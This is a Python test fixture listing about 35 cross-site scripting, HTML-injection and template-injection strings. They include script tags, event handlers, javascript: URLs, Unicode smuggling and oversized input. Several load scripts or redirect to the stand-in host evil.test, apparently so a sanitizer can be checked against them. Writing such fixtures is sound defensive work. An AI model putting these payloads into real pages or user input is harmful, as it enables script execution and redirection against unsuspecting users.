"""Hostile texts of people and models: each would run, fetch, redirect or hide if it could."""

from typing import Final

MARK: Final = "window.pwned"  # part of each text that would run something
_RUN: Final = "window.pwned=1;alert(1)"

HOSTILE: Final = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=https://evil.test/x.js>{_RUN}</sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=https://evil.test/p.png onload={_RUN}>",
    f"![{_RUN}](https://evil.test/p.png)",
    f"[x](javascript:{_RUN})",
    f"[x](JaVaScRiPt&colon;{_RUN})",
    f"[x](data:text/html,<script>{_RUN}</script>)",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<svg onload={_RUN}><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{_RUN}><text y=20>x</text></a></svg>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe><object data=javascript:{_RUN}>",
    f"<embed src=https://evil.test/{_RUN}><link rel=stylesheet href=https://evil.test/x.css>",
    f"<details open ontoggle={_RUN}><video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<form action=https://evil.test><button formaction=javascript:{_RUN}>x</button></form>",
    f"<style>@import 'https://evil.test/{_RUN}.css'; body{{display:none}}</style>",
    f"<div style='background:url(https://evil.test/x)' id='{_RUN}'>x</div>",
    f"<meta http-equiv=refresh content='0;url=https://evil.test/{_RUN}'><base href=//evil.test/>",
    f"</textarea></title></script><script>{_RUN}</script>",
    f'" onmouseover={_RUN} autofocus onfocus={_RUN} x="',
    f"' onmouseover='{_RUN}' data-opens='x",
    f"{{{{ 7*191 }}}}{{% for x in [].__class__.__mro__ %}}{_RUN}{{% endfor %}}",
    f"${{{_RUN}}}`#{{{_RUN}}}<%= {_RUN} %>",
    f"<math><mtext></table><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}>",
    f"<!--><img src=x onerror={_RUN}>--><![CDATA[<script>{_RUN}</script>]]>",
    f"```\n<script>{_RUN}</script>\n``` *<b onclick={_RUN}>bold</b>*",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template><div hx-get=//evil.test hx-trigger=load {_RUN}>",
    f"<div data-live='*' data-src='https://evil.test/' data-key='a' data-primary>{_RUN}</div>",
    f"\u202e\u2066{_RUN}\u2069\u202c \u200b\u200d\ufeff\U000e0041 <script>{_RUN}</script>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e &lt;script&gt;{_RUN}&lt;/script&gt;",
    f'<https://evil.test/?q=<script>{_RUN}</script>> http://evil.test/"onmouseover={_RUN}',
    f"{_RUN} " + "<b>" * 2_000 + "A" * 5_000,
)
